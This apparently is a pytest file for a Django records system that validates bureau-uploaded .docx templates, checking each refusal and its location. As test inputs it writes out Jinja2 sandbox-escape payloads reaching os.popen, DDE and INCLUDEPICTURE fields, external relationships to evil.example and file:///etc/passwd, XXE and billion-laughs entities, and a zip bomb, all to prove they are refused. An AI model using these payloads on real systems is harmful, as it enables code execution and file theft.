"""A bureau's own template: refused with the place of each fault; whatever stands in it, nothing is run, fetched or blown up."""

import io
import tracemalloc
import zipfile

import pytest
from docx import Document
from jinja2 import nodes

from core.documents import services
from core.documents.kinds import all_kinds
from core.documents.models import PaperTemplate
from core.documents.reading import blocks_of
from core.documents.selectors import file_of
from core.documents.templating import CannotFill, faults_of, render
from core.documents.templating.package import MOST_TEXT
from core.documents.templating.walls import Forbidden, TooLong, Walls
from core.org.errors import NotAllowed
from tests.core.documents.attacks import GOOD, altered, document, in_part

SAMPLE = {
    "person": {"name": "张三丰", "sex": "男"},
    "items": [{"field": "甲", "inner": [{"text": "乙"}]}],
    "paper": {"number": "某〔2026〕1号", "date": "", "unit": "", "title": ""},
    "verify": {"code": "0000", "address": "", "qr": ""},
}
RELS = "word/_rels/document.xml.rels"
OUTSIDE = (
    '<Relationship Id="rId900" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{target}" TargetMode="External"/></Relationships>'
)


def places(content):
    return [(str(fault.place), str(fault.message), fault.found) for fault in faults_of(content, SAMPLE)]


def test_a_good_template_has_no_faults_and_is_filled_in():
    content = document(GOOD, "{% if person.sex == “男” %}先生{% else %}女士{% endif %}", cells=("{{ person.sex }}", ""))

    assert faults_of(content, SAMPLE) == []
    assert "先生" in "\n".join(getattr(one, "text", "") for one in blocks_of(render(content, SAMPLE)))


@pytest.mark.parametrize(
    "code",
    [
        "{{ ''.__class__ }}",
        "{{ person.__class__ }}",
        "{{ person['__class__'] }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ person.keys() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ range(9999999999) }}",
        "{{ 'a' * 9999999999 }}",
        "{{ 9 ** 9 ** 9 }}",
        "{{ person.name | attr('__class__') }}",
        "{{ person.name | center(999999999) }}",
        "{{ ('a' ~ 'b') }}",
        "{{ [1, 2, 3] }}",
        "{{ lipsum() }}",
        "{{ self }}",
        "{{ person.name if true }}",
        "{% include 'x' %}",
        "{% import 'x' as y %}",
        "{% extends 'x' %}",
        "{% from 'x' import y %}",
        "{% macro loop() %}",
        "{% set x = 1 %}",
        "{% block x %}",
        "{% raw %}",
        "{% for x in range(10) %}",
        "{% for x in items recursive %}",
        "{% for x in items if x %}",
        "{% call x() %}",
        "{% filter upper %}",
        "{% hm %}",
        "{% vm %}",
        "{% colspan 9999 %}",
        "{% cellbg person.name %}",
        "{%r if person.name %}",
        "{{r person.name }}",
        "{{p person.name }}",
        "{# a comment #}",
        "{{ person.name",
        "{{ }}",
        "{% for x in person.name %}",
        "{{ _private }}",
    ],
)
def test_code_in_a_template_is_refused_with_its_place(code):
    found = places(document(GOOD, "第二段", code))
    in_cell = places(document(GOOD, cells=("甲", code)))

    assert found[0][0] == "第3段"
    assert in_cell[0][0] == "表1第1行第2格"
    assert found[0][1]


def test_each_fault_says_what_is_wrong():
    found = places(
        document(
            GOOD, "{{ person.nmae }}", "{{ items }}", "{% for a in items %}", cells=("{%tr endfor %}", "{% endif %}")
        )
    )

    assert [place for place, _message, _found in found] == ["第2段", "第3段", "表1第1行第2格"]
    assert "name" in found[0][1]
    assert found[0][2] == "{{ person.nmae }}"


def test_what_is_begun_and_never_ended_is_named_where_it_begins():
    found = places(document(GOOD, "{% if person.name %}"))

    assert found[0][0] == "第2段"
    assert "endif" in found[0][1]


def test_a_fault_in_a_header_is_found_there():
    assert places(document(GOOD, header="{{ person.nobody }}"))[0][0] == "页眉、第1段"


def test_a_mark_in_the_properties_or_in_an_attribute_is_refused():
    assert places(document(GOOD, properties="{{ ''.__class__ }}"))
    hidden = in_part("word/document.xml", "<w:sectPr", '<w:p w:rsidR="{{ person.name.__class__ }}"/><w:sectPr')
    assert places(hidden)
    split = in_part("word/document.xml", "<w:sectPr", '<w:sectPr w:rsidR="{{ ' + "[].__class__" + ' }}"')
    assert places(split)


def test_three_loops_in_each_other_are_refused():
    loops = ["{% for a in items %}", "{% for b in items %}", "{% for c in items %}", "x", *["{% endfor %}"] * 3]

    assert any(place == "第4段" for place, _message, _found in places(document(GOOD, *loops)))


def test_a_template_must_print_number_and_code():
    found = places(document("{{ person.name }}"))

    assert "{{ paper.number }}" in found[0][1]
    assert "{{ verify.code }}" in found[0][1]


@pytest.mark.parametrize(
    ("kind", "target"),
    [
        ("image", "http://evil.example/pixel.png"),
        ("image", "file:///etc/passwd"),
        ("attachedTemplate", "http://evil.example/macro.dotm"),
        ("oleObject", "\\\\server\\share"),
        ("hyperlink", "file:///etc/passwd"),
        ("hyperlink", "javascript:alert(1)"),
        ("frame", "https://evil.example/"),
    ],
)
def test_what_reaches_outside_is_refused(kind, target):
    content = in_part(RELS, "</Relationships>", OUTSIDE.format(kind=kind, target=target))

    assert target in places(content)[0][2]


def test_a_plain_link_may_stay():
    assert (
        places(in_part(RELS, "</Relationships>", OUTSIDE.format(kind="hyperlink", target="https://www.moe.gov.cn/")))
        == []
    )


@pytest.mark.parametrize(
    "text",
    [
        '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r></w:p>',
        '<w:p><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://evil"</w:instrText></w:r></w:p>',
        '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;c:/secret.docx&quot;"/></w:p>',
        '<w:altChunk/>',
    ],
)  # fmt: skip
def test_fields_that_fetch_are_refused(text):
    assert places(in_part("word/document.xml", "<w:sectPr", f"{text}<w:sectPr"))


@pytest.mark.parametrize(
    "name",
    ["word/vbaProject.bin", "word/embeddings/x.xlsx", "word/activeX/activeX1.xml", "word/a.exe", "word/afchunk.html"],
)
def test_macros_and_foreign_objects_are_refused(name):
    assert places(altered(document(GOOD), {name: b"x"}))[0][2] == name


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"PK\x03\x04",
        b"MZ\x90\x00",
        b"<html/>",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        b"x" * (5 * 1024 * 1024 + 1),
    ],
)
def test_what_is_no_docx_is_refused_in_words(content):
    ((place, message, _found),) = places(content)
    assert (place, ".docx" in message or "MB" in message) == ("整个文件", True)


def test_a_workbook_or_a_macro_document_is_no_template():
    macro = in_part(
        "[Content_Types].xml", "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml"
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as book:
        book.writestr("[Content_Types].xml", "<Types/>")
        book.writestr("xl/workbook.xml", "<x/>")

    assert places(macro)
    assert places(buffer.getvalue())


def test_a_bomb_is_not_unpacked():
    bomb = altered(document(GOOD), {"word/document.xml": lambda old: old + b" " * (150 << 20)})
    many = altered(document(GOOD), {f"word/media/{number}.png": b"" for number in range(300)})
    assert len(bomb) < 1 << 20

    tracemalloc.start()
    assert places(bomb)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 20 << 20
    assert places(many)


def test_entities_are_not_expanded():
    laughs = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c SYSTEM "file:///etc/passwd">]><w:document '
    content = in_part("word/document.xml", "<w:document ", laughs)

    assert places(content)


def test_a_part_of_text_has_a_limit():
    assert places(
        altered(
            document(GOOD),
            {"word/document.xml": lambda old: old.replace(b"<w:sectPr", b"<w:p/>" * (MOST_TEXT // 6) + b"<w:sectPr")},
        )
    )


def test_huge_output_ends_instead_of_filling_the_memory():
    row = "长" * 20000
    content = document(GOOD, "{%p for a in items %}", "{%p for b in items %}", row, "{%p endfor %}", "{%p endfor %}")
    values = {**SAMPLE, "items": [{"field": "x", "inner": []}] * 200}

    assert faults_of(content, SAMPLE) == []
    with pytest.raises(CannotFill):
        render(content, values)


def test_the_walls_alone_hold_as_well():
    walls = Walls()

    for source in ("{{ x.__class__ }}", "{{ x.upper() }}", "{% include 'a' %}", "{{ x|upper }}", "{{ 2 * 2 }}"):
        with pytest.raises(Forbidden):
            walls.parsed(source)
    for source in ("{{ x.__class__ }}", "{{ x.upper() }}", "{{ x['__class__'] }}"):
        with pytest.raises(Exception, match=r"has no attribute|undefined|not safely callable"):
            walls.from_string(source).render(x="text")
    with pytest.raises(TooLong):
        walls.from_string("{% for a in x %}" + "y" * 1000 + "{% endfor %}").render(x=["a"] * 30_000)
    assert isinstance(walls.parsed("{{ x }}"), nodes.Template)


@pytest.mark.django_db
def test_a_bureaus_template_counts_in_its_units_until_it_is_given_up(county_clerk, school_clerk, zhang, issued):
    kind = all_kinds()["in_post"]
    own = document("本县证明：{{ person.name }} {{ paper.number }} {{ verify.code }}")

    services.set_template(kind, own, name="证明.docx", actor=county_clerk, reason="本县格式")
    assert blocks_of(file_of(issued(zhang, school_clerk)))[0].text.startswith("本县证明：张三丰")
    services.reset_template(kind, actor=county_clerk, reason="恢复")
    assert blocks_of(file_of(issued(zhang, school_clerk)))[0].text == "在职证明"
    assert PaperTemplate.history.model._base_manager.filter(history_type="-").count() == 1


@pytest.mark.django_db
def test_the_template_of_one_county_is_not_that_of_another(county_clerk, other_school_clerk, teacher_b, issued):
    kind = all_kinds()["in_post"]
    services.set_template(kind, document(GOOD), name="证明.docx", actor=county_clerk, reason="本县格式")

    assert blocks_of(file_of(issued(teacher_b, other_school_clerk)))[0].text == "在职证明"


@pytest.mark.django_db
def test_a_school_does_not_decide_how_papers_look(school_clerk):
    with pytest.raises(NotAllowed):
        services.set_template(all_kinds()["in_post"], document(GOOD), name="x.docx", actor=school_clerk, reason="无权")


@pytest.mark.django_db
def test_every_shipped_template_is_without_faults_and_as_the_script_makes_it():
    from personnel.documents.making import made

    for kind in all_kinds().values():
        kept, anew = kind.template.read_bytes(), made(kind.name)
        with zipfile.ZipFile(io.BytesIO(kept)) as one, zipfile.ZipFile(io.BytesIO(anew)) as other:
            assert one.namelist() == other.namelist()
            assert [name for name in one.namelist() if one.read(name) != other.read(name)] == [], kind.name
        values = {**kind.sample(), **{name: SAMPLE[name] for name in ("paper", "verify")}}
        assert faults_of(kept, values) == []
        assert Document(io.BytesIO(render(kept, values)))
